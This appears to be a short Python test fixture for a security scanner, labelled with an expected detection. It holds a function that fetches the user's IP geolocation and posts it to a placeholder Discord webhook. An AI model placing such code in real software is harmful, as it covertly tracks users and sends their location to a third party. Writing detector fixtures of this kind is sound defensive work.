import requests


def where():
    place = requests.get("https://ipinfo.io/json").json()
    requests.post("https://discord.com/api/webhooks/000000000000/example-invalid", json=place)  # expect: source/locates-user call high
